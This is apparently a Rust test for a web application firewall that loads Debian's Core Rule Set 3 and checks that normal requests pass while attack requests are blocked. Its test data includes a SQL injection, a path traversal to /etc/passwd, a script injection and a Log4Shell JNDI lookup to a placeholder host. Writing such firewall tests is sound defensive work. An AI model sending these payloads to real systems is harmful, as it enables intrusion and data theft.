//! The Core Rule Set 3 as Debian packages it: it loads, refuses attacks, and lets an ordinary request pass.
#![allow(clippy::print_stderr, reason = "part of a test: it must say that it skips")]

mod support;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use bartizan_waf::lint::{Kind, lint};
use bartizan_waf::{Disk, RuleSet, Transaction};
use support::{Given, judge};

/// Returns the root that the package `modsecurity-crs` is unpacked in, or says loudly that it is missing.
fn root() -> Option<PathBuf> {
    let root = std::env::var_os("BARTIZAN_MODSECURITY_CRS").map_or(PathBuf::from("/"), PathBuf::from);
    if root.join("usr/share/modsecurity-crs/rules").is_dir() {
        return Some(root);
    }
    eprintln!("SKIPPED: Debian's modsecurity-crs is not at {}; set BARTIZAN_MODSECURITY_CRS", root.display());
    None
}

#[test]
fn version_3_refuses_attacks() {
    let Some(root) = root() else { return };
    let text = "SecRuleEngine On\nSecRequestBodyAccess On\nInclude etc/modsecurity/crs/crs-setup.conf\nInclude usr/share/modsecurity-crs/rules/*.conf\n";
    let rules = match RuleSet::from_text(Path::new(&root.join("entry.conf")), text, &Disk) {
        Ok(rules) => Arc::new(rules),
        Err(errors) => panic!("{errors}"),
    };
    let remarks = lint(&rules);
    let backtracks = remarks.iter().filter(|remark| remark.kind == Kind::Backtracks).filter_map(|remark| remark.rule);
    let backtracks: Vec<u64> = backtracks.collect();
    assert!(backtracks.contains(&942_130), "{backtracks:?}");
    let mut transaction = Transaction::new(rules);
    for (uri, is_refused) in [
        ("/", false),
        ("/search?q=garden+tools&page=2", false),
        ("/?id=1%27+union+select+password+from+users--", true),
        ("/?f=../../../../etc/passwd", true),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", true),
        ("/?q=%24%7Bjndi:ldap://a.example/x%7D", true),
    ] {
        judge(&mut transaction, &Given::get(uri.as_bytes().to_vec()), u64::MAX);
        let found: Vec<u64> = transaction.matches().iter().map(|found| found.id).collect();
        assert_eq!(transaction.refusal().is_some(), is_refused, "{uri}: {found:?}");
    }
}
